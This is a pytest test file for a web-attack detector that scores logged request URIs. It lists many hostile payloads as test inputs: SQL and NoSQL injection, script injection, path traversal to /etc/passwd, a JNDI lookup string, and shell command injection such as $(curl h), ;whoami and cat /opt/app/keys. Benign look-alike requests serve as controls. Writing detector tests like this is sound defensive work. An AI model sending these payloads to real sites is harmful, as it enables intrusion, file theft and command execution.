"""Requests are laid bare before they are judged, and the site's own look is learned."""

import numpy as np
import pytest

from detectors.played import START, played
from pipeline.detectors.logs.web_attack import WebAttack

WEB = {"kind": "web", "ts": START, "host": "www", "src_ip": "203.0.113.9", "status": 200}


def _scores(*uris: str, **more: object) -> np.ndarray:
    return played(WebAttack, [WEB | {"uri": u} | more for u in uris])


@pytest.mark.parametrize(
    "uri",
    [
        "/a?id=1+UNION+ALL+SELECT+1,2", "/a?id=1%2520union%2520select%25201", "/a?id=1/**/union/**/select/**/2",
        "/a?u=x'%20OR%20'7'='7", '/a?u=x")%20or%20("ab"="ab', "/a?q=%3CsCrIpT%3Ealert(1)", "/a?q=%u003cscript%u003e",
        "/..%2f..%2fetc/passwd", "/a?x=;cat%20/etc/group", "/a?x=%24%7Bjndi:ldap://h/a%7D", "/a?x=$(curl+h)",
        "/..%c0%af..%c0%afetc/hostname", "/%c0%ae%c0%ae%c1%9c%c0%ae%c0%ae%c1%9cx", "/..%c0%9v..%c0%9vx",
        "/a?x=%3C/div%3E",
        # a command where a shell begins anew
        "/a?h=db1;whoami", "/a?h=db1%7Cls+-la", "/a?h=x%0Auname", "/a?h=x%0A/bin/c?t+/etc/h*", "/a?h=%60id%60",
        "/a?h=$(kill+-9+1)", "/a?h=x;w%5Cg%5Cet+h", "/a?h=x%26%26cu$@rl+h", "/a?h=%7Bcat,/etc/hosts%7D",
        "/a?h=cat+/opt/app/keys", "/a?h=ping+-n+9", "/a?h=x;%20/usr/bin/Perl.exe",
        # a quote that ends the value
        "/a?u=admin'--", "/a?u=x'%20or%20name%20like%20'a%25", "/a?u=x'%7C%7C(select+1)", "/a?u=x')%20and%20(a%3Eb)%23",
        '/a?u=x%22%20having%20n%3E2%20--', "/a?n=1%20or%20(3%3E2", "/a?u='%20or%20length(x)",
        # a page's event, a template that computes
        '/a?n=%22%20onpointerenter=x()', "/a?n=%3Cb%20onwheel%20=x", "/a?n=%7B%7B3*x%7D%7D", "/a?n=$%7Ba.b()%7D",
        "/a?n=%23%7Bx%5B0%5D%7D", "/a?n=%3Cxyz%20a=b", "/a?n=%3C!doctype%20x%3E", "/a?n=%3Cx%20onset=1", "/a?u='-'",
        # other languages
        "/a?user%5B$ne%5D=1", "/a?q=%7B%22$gt%22:%22%22%7D", "/a?u=*)(uid=*", "/a?x=%3C?php+echo+1", "/a?x=__proto__.a",
        "/a?x=;shutdown", "/a?u=http://%5B::%5D/",
    ],
)  # fmt: skip
def test_attacks(uri: str) -> None:
    assert _scores(uri)[0] >= 0.5


def test_ordinary_requests() -> None:
    ordinary = (
        "/", "/search?q=select+a+union+for+nurses", "/a?from=2015-01-01&order=by+date", "/x?n=O'Brien&e=a@example.org",
        "/a?u=https%3A%2F%2Fexample.org%2Fb%3Fc%3Dd", "/static/app.min.js?v=1.2.3", "/p?a=1&b=1=1", "/q?or=1&and=2",
        "/list?fields=id|name|date", "/a?to=a@example.org;b@example.org", "/p;jsessionid=1A2B?x=1", "/a?id&sort&ls",
        "/fhir/Observation?code=http://loinc.org%7C8480-6&date=ge2020-01-01", "/a?q=dogs;cats;find+a+nurse",
        "/jira?jql=project%20%3D%20%22ICU%22%20AND%20state%20%3D%20%22open%22", "/a?q=open+/close+test",
        "/odata?$filter=name%20eq%20'a'%20and%20contains(t,'b')", "/a?q=the+patients'+or+nurses'+file",
        "/a?q=if+p+%3Cq+and+r", "/a?id=%3Cna_id%3E", "/a?q=%22only%22+onset=2",
        "/a?n=$%7BpatientId%7D", "/a?n=%7B%7Bname%7D%7D", "/a?q=results+from+dual+energy", "/a?redirect_uri=http://127.0.0.1:8/",
        "/a?q=rock+'n'+roll+--+best+of", "/a?q=Q%26A+%26+find+out", '/a?n=%22only%22%20one=1', "/a?q=ping+me+at+9",
    )  # fmt: skip
    assert (_scores(*ordinary) < 0.5).all()


def test_what_is_turned_away_counts_less() -> None:
    uri = "/a?f=../../etc/passwd"
    assert _scores(uri, status=404)[0] < 0.5 <= _scores(uri)[0]


def test_the_site_is_learned() -> None:
    usual = [WEB | {"uri": f"/s?name=nurse{i % 50}&day={i % 30}"} for i in range(400)]
    odd = WEB | {"uri": "/s?name=%7C%7C((%22%5B%5D~~%25%25%24%24!!&day=1"}
    scores = played(WebAttack, [*usual, odd])
    assert scores[-1] > 0.3 > scores[300:-1].max()
